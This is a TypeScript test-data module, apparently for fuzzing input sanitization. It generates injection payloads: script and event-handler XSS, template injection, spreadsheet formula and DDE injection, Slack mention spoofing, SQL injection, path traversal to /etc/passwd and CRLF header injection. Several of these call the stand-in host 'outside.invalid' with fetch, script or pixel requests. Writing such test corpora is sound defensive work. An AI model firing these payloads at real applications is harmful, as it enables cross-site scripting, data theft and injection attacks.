// Text that hopes to be something else: a script, a link, a formula, a mention, a line of a protocol. Made from a list of
// cores and a list of ways to wrap them, the same list every time.

/** A host that nobody must ever ask. */
export const OUTSIDE = "outside.invalid";

/** What a script does when it runs. */
const RUN = "window.ran=(window.ran||0)+1";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//${OUTSIDE}/x.js></script>`,
  `<script src="https://${OUTSIDE}/x.js" type=module></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//${OUTSIDE}/pixel.gif>`,
  `<img src=x onerror="fetch('//${OUTSIDE}')">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="//${OUTSIDE}/#x"/></svg>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.ran=1">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src=//${OUTSIDE}></iframe>`,
  `<object data=//${OUTSIDE}></object>`,
  `<embed src=//${OUTSIDE}>`,
  `<link rel=stylesheet href=//${OUTSIDE}/x.css>`,
  `<style>@import '//${OUTSIDE}/x.css';</style>`,
  `<style>*{background:url(//${OUTSIDE}/b)}</style>`,
  `<base href=//${OUTSIDE}/>`,
  `<meta http-equiv=refresh content="0;url=//${OUTSIDE}">`,
  `<form action=//${OUTSIDE}><button autofocus onfocus=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video autoplay onloadstart=${RUN}><source src=//${OUTSIDE}/v></video>`,
  `<audio src=//${OUTSIDE}/a autoplay onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="//${OUTSIDE}" ping="//${OUTSIDE}">click</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `[click](javascript:${RUN})`,
  `![x](https://${OUTSIDE}/p.png)`,
];

const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("https://${OUTSIDE}","click")`,
  `=IMPORTXML("https://${OUTSIDE}","//a")`,
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "\t=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  '"=1+1',
  "';=1+1",
  '=1+1";=1+1',
];

const MENTIONS = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<@U012AB3CD>",
  "<#C012AB3CD|general>",
  `<https://${OUTSIDE}|https://zendesk.com>`,
  `<mailto:a@${OUTSIDE}|b@zendesk.com>`,
  "<!date^1392734382^{date}^https://outside.invalid|x>",
  "&lt;!channel&gt;",
  "*bold* _it_ ~no~ `code`",
  "```\n</code>\n```",
  "> quoted\n> again",
];

const ODDITIES = [
  "\u202eevitagen",
  "\u2066\u2067\u2068abc\u2069",
  "Z\u0351\u036b\u0343a\u0348\u034cl\u0336g\u0321o\u0332",
  "👩‍👩‍👧‍👦".repeat(20),
  "\ufdfd".repeat(50),
  "null",
  "undefined",
  "[object Object]",
  "NaN",
  "__proto__",
  "constructor",
  "' or 1=1 --",
  "'; drop table flags; --",
  "\\",
  '"',
  "]]>",
  "-->",
  "</script>",
  "</style>",
  "</textarea>",
  "</title>",
  "<!--",
  "<![CDATA[",
  "\r\nSet-Cookie: a=b".replaceAll("\r", ""),
  "../../../../etc/passwd",
  "%00",
  "\u2028\u2029",
  "x".repeat(2000),
  "W".repeat(400),
  "a\u0301".repeat(500),
];

const WRAPS: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `"${core}`,
  (core) => `'${core}`,
  (core) => `">${core}`,
  (core) => `'>${core}<'`,
  (core) => `</script>${core}`,
  (core) => `</style></textarea></title>${core}`,
  (core) => `--></template>${core}<!--`,
  (core) => `]]>${core}`,
  (core) => ` ${core} `,
  (core) => `hello ${core} world`,
  (core) => `${core}\n${core}`,
  (core) => `\u202e${core}`,
  (core) => `=${core}`,
];

/** The beginning of the list; from about a thousand on it is all of it. */
export function payloads(count: number): string[] {
  const cores = [SCRIPTS, FORMULAS, MENTIONS, ODDITIES];
  const all: string[] = [];
  for (const wrap of WRAPS)
    for (let n = 0; n < Math.max(...cores.map((list) => list.length)); n++)
      for (const list of cores) {
        const core = list[n];
        if (core !== undefined) all.push(wrap(core));
      }
  // A short list takes something from everywhere.
  const step = Math.max(1, Math.floor(all.length / count));
  return [...new Set(all)].filter((_, n) => n % step === 0).slice(0, count);
}

/** What no text may hold, as it would stand in a body. */
export const REFUSED: readonly string[] = [
  '"a\\u0000b"',
  '"\\ud800"',
  '"\\udc00\\ud800"',
  '"\\u001b[2J"',
  '"\\u0008"',
  '"\\r\\nBcc: a@b"',
  `"${"x".repeat(64 * 1024)}"`,
];
